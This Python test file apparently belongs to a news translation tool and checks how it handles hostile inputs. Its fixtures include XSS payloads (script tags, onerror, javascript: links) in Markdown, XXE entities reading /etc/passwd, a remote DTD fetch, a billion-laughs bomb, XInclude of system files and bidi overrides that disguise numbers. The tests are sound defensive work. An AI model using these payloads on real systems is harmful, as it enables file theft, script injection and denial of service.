"""Red-team pass five: numbers hidden behind bidi controls, a Markdown front-matter title with
raw markup, Markdown tables and footnotes with raw HTML, and feeds with entities, a DOCTYPE,
XInclude or one enormous item. Each is a correct, flagged output or a clear one-line error
with a documented exit code; every file written parses back with an independent parser."""

from __future__ import annotations

import json
from pathlib import Path

import feedparser
import polib
import pytest
import yaml
from hostile.helpers import invoke, tree
from hostile.test_hostile_pass4 import active_content, markdown_active
from lxml import etree

from translate.facts import bidi_number

FORMATS = "html,md,json,xliff,po,review"


def _run(tmp_path: Path, name: str, text: str, *extra: object) -> tuple[object, Path]:
    src = tmp_path / name
    src.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    outcome = invoke("run", src, "--to", "pt-BR", "--engine", "fake", "--format", FORMATS,
                     "--out", out, "--db", tmp_path / "s.db", "--no-builtin-glossary",
                     *extra)  # fmt: skip
    return outcome, out


def _parse_back(out: Path) -> None:
    """Every file written parses with a parser that is not ours."""
    files = sorted(p for p in out.rglob("*") if p.is_file())
    assert files, tree(out)
    for path in files:
        data = path.read_bytes()
        if path.suffix == ".json":
            json.loads(data)
        elif path.suffix in (".xlf", ".xliff"):
            etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True))
        elif path.suffix == ".po":
            polib.pofile(data.decode("utf-8"))
        elif path.suffix == ".md":
            text = data.decode("utf-8")
            assert text.startswith("---\n"), path
            yaml.safe_load(text.split("\n---\n", 1)[0].removeprefix("---\n"))
            assert not markdown_active(text), path
        elif path.suffix == ".html":
            html = data.decode("utf-8")
            assert not active_content(html, allowed_scripts=8 if ".review." in path.name else 0)


# --- bidi controls around numbers ------------------------------------------------------------

@pytest.mark.parametrize(("text", "flagged"), [
    ("The city will pay \u202e0001\u202c dollars.", True),  # RLO: displayed "1000"
    ("The city will pay \u202d1,000\u202c dollars.", True),  # LRO over a number
    ("The vote was \u2067 52 to 48\u2069 in favour.", True),  # RLI: the order may flip
    ("The figure was 1\u200f000 people.", True),  # RLM inside the digits
    ("The figure was 1\u202c,000 people.", True),
    ("The city will pay 1,000 dollars.", False),
    ("The mayor \u2067said\u2069 it was 1,000.", False),  # the isolate holds no digits
    ("Ela disse \u202eolá\u202c aos 30 presentes.", False),
])  # fmt: skip
def test_bidi_control_around_a_number_is_found(text: str, flagged: bool) -> None:
    assert (bidi_number(text, "en") is not None) is flagged


def test_bidi_marks_in_an_rtl_article_are_its_own() -> None:
    # Arabic and Hebrew text marks numbers with LRM/RLI as a matter of course: only an
    # override (which reverses the digits) or a control inside the digits is flagged there
    arabic = "\u0627\u0644\u0639\u062f\u062f"
    assert bidi_number(f"{arabic} \u2066150\u2069 \u0634\u062e\u0635", "ar") is None
    assert bidi_number("\u0627\u0644\u0639\u062f\u062f \u202e150\u202c", "ar") is not None


def test_a_number_behind_a_bidi_override_is_blocking_in_every_output(
    tmp_path: Path, fake_engine: object
) -> None:
    text = ("Bridge budget\n\nThe city will pay \u202e0001\u202c dollars for the new bridge, "
            "officials said on Monday.\n\nThe work starts in May and lasts two years.\n")
    outcome, out = _run(tmp_path, "bidi.txt", text)
    assert outcome.code == 9, outcome.stderr  # blocking findings: edition marked
    assert "U+202E" in outcome.stdout + outcome.stderr and "Traceback" not in outcome.stderr
    edition = json.loads(next(out.rglob("*.json")).read_text(encoding="utf-8"))
    messages = [f["message"] for b in edition["blocks"] for s in b["segments"]
                for f in s["findings"] if f["severity"] == "error"]  # fmt: skip
    assert any('"0001" may display as "1000"' in m for m in messages), messages
    _parse_back(out)


def test_a_held_edition_with_a_bidi_number_is_not_published(
    tmp_path: Path, fake_engine: object
) -> None:
    text = "Bridge budget\n\nThe city will pay \u202e0001\u202c dollars for the bridge.\n"
    outcome, out = _run(tmp_path, "bidi.txt", text, "--on-findings", "hold")
    assert outcome.code == 9, outcome.stderr
    assert not (out / "bidi.pt-BR.html").exists(), tree(out)  # held: nothing published
    assert (out / "held" / "bidi.pt-BR.html").is_file(), tree(out)
    _parse_back(out)


# --- Markdown: front matter, tables and footnotes with raw HTML --------------------------------

FRONT_MATTER = """---
title: "Prices <img src=x onerror=alert(1)> rise as 5 < 6 & more"
author: "<script>alert(2)</script>"
---

The city will pay 1,000 dollars for the bridge, officials said on Monday.
"""

TABLES = """# Port figures <script>alert(1)</script>

The port handled 1,200 ships last year, officials said on Monday.

| Year | Ships <img src=x onerror=alert(2)> |
|------|------|
| 2022 | <b>1,100</b> |
| 2023 | <a href="javascript:alert(3)">1,200</a> |

The figures were published on Monday.[^1] A second note follows.[^note]

[^1]: Source: <script>alert(4)</script> the port <iframe src="javascript:alert(5)"></iframe>.
[^note]: See <a href="data:text/html,<script>alert(6)</script>">the data</a>
and <svg onload=alert(7)>.
"""


def test_front_matter_title_with_markup_holds_no_raw_markup(
    tmp_path: Path, fake_engine: object
) -> None:
    outcome, out = _run(tmp_path, "post.md", FRONT_MATTER)
    assert outcome.code in (0, 9), outcome.stderr
    md = next(out.rglob("*.md")).read_text(encoding="utf-8")
    front = md.split("\n---\n", 1)[0]
    assert "<" not in front and ">" not in front and "&" not in front, front
    title = yaml.safe_load(front.removeprefix("---\n"))["title"]
    assert "5 < 6" in title  # the fact kept, escaped only in the file's spelling
    html = next(p for p in out.rglob("*.pt-BR.html")).read_text(encoding="utf-8")
    assert "<img" not in html and "5 &lt; 6" in html
    _parse_back(out)


def test_markdown_tables_and_footnotes_with_raw_html(tmp_path: Path, fake_engine: object) -> None:
    outcome, out = _run(tmp_path, "table.md", TABLES)
    assert outcome.code in (0, 9), outcome.stderr
    assert "Traceback" not in outcome.stderr
    every = "".join(p.read_text(encoding="utf-8") for p in out.rglob("*") if p.is_file())
    for n in range(1, 8):
        assert f"alert({n})" not in every or n in (1, 2), n  # not even as text, but headings
    _parse_back(out)


# --- feeds: entities, DOCTYPE, XInclude, one enormous item --------------------------------------

HEAD = '<?xml version="1.0" encoding="utf-8"?>\n'
ITEM = ('<item><title>Talks</title><guid>g1</guid><link>https://news.example.org/a</link>'
        "<pubDate>Mon, 02 Dec 2024 10:00:00 GMT</pubDate>"
        "<description>The talks resumed on Monday with 1,000 delegates.</description></item>")
FEEDS = {
    "external-entity": (HEAD + '<!DOCTYPE rss [<!ENTITY ext SYSTEM "file:///etc/passwd">]>'
                        f'<rss version="2.0"><channel><title>News &ext;</title>{ITEM}'
                        "</channel></rss>", 3),
    "parameter-entity": (HEAD + '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd">%p;]>'
                         f'<rss version="2.0"><channel><title>News</title>{ITEM}</channel></rss>',
                         3),
    "billion-laughs": (HEAD + '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">'
                       + "".join(f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 10 + '">'
                                 for i in range(6))
                       + ']><rss version="2.0"><channel><title>&g;</title>' + ITEM
                       + "</channel></rss>", 3),
    "public-dtd": (HEAD + '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
                   '"http://my.netscape.com/publish/formats/rss-0.91.dtd">'
                   f'<rss version="0.91"><channel><title>News &amp; more</title>{ITEM}'
                   "</channel></rss>", 0),
    "xinclude": (HEAD + '<rss version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude">'
                 "<channel><title>News</title>" + ITEM.replace(
                     "delegates.", 'delegates. <xi:include href="/etc/passwd" parse="text"/>')
                 + '<xi:include href="/etc/hostname" parse="text"/></channel></rss>', 0),
}  # fmt: skip


@pytest.mark.parametrize("name", list(FEEDS))
def test_hostile_feed_documents(tmp_path: Path, fake_engine: object, name: str) -> None:
    text, code = FEEDS[name]
    src = tmp_path / "feed.xml"
    src.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    outcome = invoke("feed", src, "--to", "pt-BR", "--engine", "fake", "--out", out, "--db",
                     tmp_path / "s.db", "--no-builtin-glossary")  # fmt: skip
    assert outcome.code == code, outcome.stderr
    assert "Traceback" not in outcome.stderr
    if code:
        assert len([ln for ln in outcome.stderr.splitlines() if ln.startswith("error")]) == 1
        assert not [p for p in out.rglob("*.xml")], tree(out)
        return
    feeds = list(out.rglob("*.xml"))
    assert feeds, tree(out)
    for path in feeds:
        data = path.read_bytes()
        parsed = feedparser.parse(data)
        assert not parsed.bozo, parsed.bozo_exception
        assert b"root:" not in data and b"xi:include" not in data
        assert len(parsed.entries) == 1


def test_feed_with_one_enormous_item_publishes_the_rest(tmp_path: Path,
                                                       fake_engine: object) -> None:
    big = "The talks resumed on Monday with 1,000 delegates. " * 120_000  # 6 MB
    text = (HEAD + '<rss version="2.0"><channel><title>News</title>'
            f"<item><title>Big</title><guid>big</guid><description>{big}</description></item>"
            + ITEM + "</channel></rss>")  # fmt: skip
    src = tmp_path / "feed.xml"
    src.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    outcome = invoke("feed", src, "--to", "pt-BR", "--engine", "fake", "--out", out, "--db",
                     tmp_path / "s.db", "--no-builtin-glossary", "--from", "en")  # fmt: skip
    assert outcome.code in (0, 10), outcome.stderr
    assert "KiB limit; left out" in outcome.stderr and "Traceback" not in outcome.stderr
    feeds = list(out.rglob("*.xml"))
    assert feeds, tree(out)
    for path in feeds:
        parsed = feedparser.parse(path.read_bytes())
        assert not parsed.bozo, parsed.bozo_exception
        assert "g1" in [e.get("id") for e in parsed.entries]
        assert path.stat().st_size < 1_000_000
